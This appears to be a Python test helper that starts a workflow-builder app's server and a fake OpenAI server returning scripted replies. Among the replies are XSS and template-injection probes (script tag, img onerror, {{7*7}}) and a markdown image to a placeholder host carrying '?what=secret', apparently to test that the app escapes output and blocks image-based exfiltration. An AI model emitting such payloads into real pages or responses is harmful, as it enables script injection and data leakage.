"""The real program as a process of its own, and a model server that knows a handful of requests."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.fakes.openai_server import FakeOpenAI, Reply

ROOT = Path(__file__).resolve().parents[2]
GALLERY = ROOT / "configs" / "gallery"
TICKET = "Since this morning nobody in our office can log in."
EVIL = '<script>window.hit = 1</script><img src=x onerror="window.hit = 2">{{7*7}} ${window.hit = 3}'
PICTURE = "![a picture](http://pictures.example/steal.png?what=secret)"

FORM = """\
schema_version: "1.0"
flow: {name: all_kinds, description: Every kind of input}
state:
  fields:
    title: {type: str, required: true, description: What it is called}
    size: {type: str, enum: [small, large], required: true}
    count: {type: int, default: 2}
    price: {type: float, default: 0.5}
    urgent: {type: bool, default: false}
    tags: {type: "list[str]", required: true}
    line: str
nodes:
  - id: fill
    tool: text_template
    args:
      template: "{title} {size} {count} {price} {urgent} {tags}"
      values:
        title: "{state.title}"
        size: "{state.size}"
        count: "{state.count}"
        price: "{state.price}"
        urgent: "{state.urgent}"
        tags: "{state.tags}"
    outputs: [line]
"""


NUMBERS = """\
schema_version: "1.0"
flow: {name: only_numbers}
state:
  fields:
    pages: {type: int, required: true}
    size: {type: str, enum: [small, large], required: true}
    line: str
nodes:
  - id: fill
    tool: text_template
    args: {template: "{pages} pages, {size}", values: {pages: "{state.pages}", size: "{state.size}"}}
    outputs: [line]
"""
WIDE = (
    'schema_version: "1.0"\nflow: {name: wide_flow}\nstate:\n  fields:\n    line: str\nnodes:\n'
    + "".join(
        f"  - {{id: step_number_{n}_with_a_name, tool: current_time, outputs: []}}\n" for n in range(16)
    )
    + "  - {id: last, tool: text_template, args: {template: done}, outputs: [line]}\nedges:\n"
    + "".join(
        f"  - {{from: START, to: step_number_{n}_with_a_name}}\n  - {{from: step_number_{n}_with_a_name, to: last}}\n"
        for n in range(16)
    )
)
LONG = """\
schema_version: "1.0"
flow: {name: long_result}
state:
  fields:
    times: {type: int, default: 3}
    long: str
nodes:
  - id: speak
    prompt: "At great length, please"
    outputs: [long]
"""


def example(name: str) -> str:
    return (
        (GALLERY / f"{name}.yaml")
        .read_text(encoding="utf-8")
        .split("schema_version", 1)[1]
        .join(["schema_version", ""])
    )


EVIL_YAML = f"""\
schema_version: "1.0"
flow: {{name: evil_flow, description: '{EVIL}'}}
state:
  fields:
    words: {{type: str, required: true, description: '{EVIL}'}}
    answer: str
nodes:
  - id: speak
    description: '{EVIL}'
    prompt: "Say it: {{state.words}}"
    outputs: [answer]
"""


def answer(body: Mapping[str, Any]) -> Reply:
    """What the model says, by the last words of the person, or by the step that asks."""
    messages = body["messages"]
    if not body.get("tools"):
        return _step(body)
    last = next(str(m["content"]) for m in reversed(messages) if m["role"] == "user")
    if messages[-1]["role"] == "tool":
        return Reply(text="That is all.")
    for words, reply in TALK.items():
        if words in last:
            return reply
    return Reply(text=f"You said: {last}")


def _step(body: Mapping[str, Any]) -> Reply:
    prompt = str(body["messages"][-1]["content"])
    delay = 1.5 if "slowly" in prompt else 0.0
    if "Judge" in prompt or "How urgent" in prompt or "Read this support ticket" in prompt:
        return Reply(value={"urgency": "high", "topic": "technical"}, delay=delay)
    if "At great length" in prompt:
        return Reply(text="\n".join(f"Line number {n} of a long result." for n in range(4000)))
    if "Say it" in prompt:
        return Reply(text=f"{EVIL} {PICTURE}")
    return Reply(text=f"**Dear customer**, we are on it. ({len(prompt)} signs read)", delay=delay)


def _write(yaml: str, summary: str) -> Reply:
    return Reply(
        text="I wrote it down. ", tool_calls=(("write_workflow", {"yaml": yaml, "summary": summary}),)
    )


TALK: dict[str, Reply] = {
    "Triage": _write(example("triage_ticket"), "Sorts tickets and drafts the answer"),
    "never right": _write(example("triage_ticket").replace("to: thank}", "to: the_moon}"), "Never right"),
    "calmer": Reply(
        tool_calls=(
            (
                "edit_workflow",
                {
                    "edits": [{"old": "a short, calm reply", "new": "a short and very calm reply"}],
                    "summary": "A calmer answer",
                },
            ),
        )
    ),
    "run it": Reply(tool_calls=(("run_workflow", {"inputs": {"ticket": TICKET}}),)),
    "run slowly": Reply(tool_calls=(("run_workflow", {"inputs": {"ticket": "slowly " + TICKET}}),)),
    "every kind": _write(FORM, "Asks for everything"),
    "only numbers": _write(NUMBERS, "Asks for numbers"),
    "a wide one": _write(WIDE, "Wide"),
    "great length": _write(LONG, "Says much"),
    "evil": _write(EVIL_YAML, EVIL),
    "nasty": Reply(text=f"{EVIL}\n\n{PICTURE}\n\n```html\n{EVIL}\n```\n\n`{EVIL}`"),
    "which one": Reply(
        tool_calls=(
            ("ask_person", {"question": "Which one do you mean?", "options": ["The first", "The second"]}),
        )
    ),
    "wait": Reply(
        pieces=("The first words", " and the rest."), text="The first words and the rest.", pause=True
    ),
    "long": Reply(text=" ".join(f"word{n}" for n in range(400)), piece_delay=0.5),
    "break off": Reply(text="This will break in the middle of it", break_after=3),
    "markdown": Reply(
        text="# Head\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n"
        "```yaml\nkey: value\n```\n\nEnd with **weight**."
    ),
}


class Server:
    """`app.py serve` on a free port. `kill` is a real SIGKILL; `start` again is the next process."""

    def __init__(self, home: Path, **settings: str) -> None:
        self.home = home
        self.url = ""
        self.seconds_to_ready = 0.0
        self._settings = settings
        self._process: subprocess.Popen[str] | None = None
        self._said: list[str] = []

    @property
    def alive(self) -> bool:
        return self._process is not None and self._process.poll() is None

    def again(self) -> Server:
        """The next process, where the one before was: open pages find it."""
        return self.start(port=self.url.rsplit(":", 1)[1])

    def start(self, port: str = "0") -> Server:
        keep = {name: value for name, value in os.environ.items() if not name.startswith("PARLANCE_")}
        environment = {**keep, "PARLANCE_HOME": str(self.home), **self._settings}
        self._process = subprocess.Popen(
            [sys.executable, "app.py", "serve", "--port", port],
            cwd=ROOT,
            env=environment,
            text=True,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        self._said = []
        threading.Thread(target=self._listen, args=(self._process,), daemon=True).start()
        begun = time.monotonic()
        while time.monotonic() - begun < 60:
            if found := re.search(r"is ready: (http\S+)", "".join(self._said)):
                self.url = found[1]
                return self
            if self._process.poll() is not None:
                break
            time.sleep(0.02)
        raise AssertionError("the server did not start:\n" + "".join(self._said))

    def _listen(self, process: subprocess.Popen[str]) -> None:
        if process.stdout:
            with process.stdout as lines:
                self._said.extend(lines)

    def log(self) -> str:
        return "".join(self._said)

    def kill(self) -> None:
        self._end(signal.SIGKILL)

    def stop(self) -> None:
        self._end(signal.SIGTERM)

    def _end(self, how: signal.Signals) -> None:
        if self._process and self._process.poll() is None:
            self._process.send_signal(how)
            self._process.wait(20)
        self._process = None


def with_model(fake: FakeOpenAI) -> dict[str, str]:
    """Settings that send every model call to the fake, as a model that can call functions."""
    return {
        "PARLANCE_MODEL": "openai/gpt-5.4-mini",
        "PARLANCE_API_BASE": fake.base_url,
        "PARLANCE_API_KEY": "key-for-tests",
    }
